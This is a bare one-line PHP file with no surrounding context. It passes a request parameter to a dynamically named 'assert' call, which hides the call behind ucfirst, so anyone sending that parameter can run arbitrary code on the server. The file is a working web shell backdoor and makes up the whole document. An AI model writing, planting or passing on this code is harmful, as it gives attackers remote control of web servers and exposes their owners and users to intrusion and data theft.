<?php $f = ucfirst("assert"); $f($_REQUEST["c"]);
